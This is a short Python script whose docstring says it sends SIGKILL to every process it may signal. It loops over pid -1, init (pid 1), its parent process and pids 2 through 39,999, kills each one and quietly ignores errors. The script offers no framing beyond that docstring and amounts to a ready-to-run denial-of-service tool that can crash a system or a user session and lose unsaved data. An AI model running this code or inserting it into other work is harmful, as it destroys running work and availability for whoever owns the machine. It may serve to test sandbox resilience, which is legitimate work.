"""Sends SIGKILL to every process that it may signal."""

import os
import signal

for pid in (-1, 1, os.getppid(), *range(2, 40_000)):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
